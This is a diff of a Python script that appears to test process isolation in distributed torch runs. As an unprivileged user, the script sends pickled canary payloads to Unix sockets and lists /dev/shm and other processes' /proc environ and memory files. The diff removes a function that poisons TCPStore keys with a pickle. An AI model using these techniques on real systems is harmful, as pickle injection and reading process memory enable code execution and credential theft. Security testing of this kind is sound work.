@@ -8,21 +8,14 @@ FOLDER/ran (a file that anyone may write) if a process loads it.
 
 from __future__ import annotations
 
-import base64
 import json
 import os
 import pickle
-import signal
 import socket
 import sys
 from collections.abc import Iterator
 from contextlib import suppress
-from datetime import timedelta
 from pathlib import Path
-
-os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"  # Silence torch's messages about failed connection attempts.
-
-import torch.distributed as dist
 
 STRANGER = 65534
 
@@ -68,28 +61,16 @@ def unix_listeners(ours: set[str]) -> Iterator[str]:
             yield words[7].replace("@", "\0", 1)
 
 
-def garbage(family: socket.AddressFamily, address: object, payload: bytes) -> bytes:
+def garbage(address: str, payload: bytes) -> bytes:
     """Send malformed messages in the framing of the run's protocol and of gloo; return the bytes that come back."""
     come = b""
     for head in (b"", bytes(8), (1).to_bytes(8, "little"), (8).to_bytes(4, "big") + (1).to_bytes(4, "big")):
-        with suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as connection:
+        with suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
             connection.settimeout(2)
-            connection.connect(address)  # type: ignore[arg-type]
+            connection.connect(address)
             connection.sendall(head + payload)
             come += connection.recv(1 << 16)
     return come
-
-
-def poison(host: str, port: int, payload: bytes) -> None:
-    """Overwrite every key of a torch TCPStore with a pickle, as elastic's rendezvous unpickles them; end
-    the process.
-    """
-    signal.alarm(20)  # Listeners that are not a TCPStore never answer.
-    with suppress(RuntimeError, ValueError):
-        store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=5))
-        for key in store.list_keys():
-            store.set(key, base64.b64encode(payload).decode())
-    os._exit(0)
 
 
 def attack(pids: list[int], folder: Path) -> dict[str, object]:
@@ -99,17 +80,7 @@ def attack(pids: list[int], folder: Path) -> dict[str, object]:
     os.setgid(STRANGER)
     os.setuid(STRANGER)
     payload = pickle.dumps(Command(folder))
-    stores = []
-    for place in tcp:
-        if not (pid := os.fork()):
-            poison(*place, payload)
-        stores.append(pid)
-    for pid in stores:
-        os.waitpid(pid, 0)
-    told = b"".join(
-        garbage(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, port), payload) for host, port in tcp
-    )
-    told += b"".join(garbage(socket.AF_UNIX, name, payload) for name in unix)
+    told = b"".join(garbage(name, payload) for name in unix)
     read = []
     for pid in pids:
         places = [*Path("/dev/shm").glob("*"), Path(f"/proc/{pid}/environ"), Path(f"/proc/{pid}/mem")]
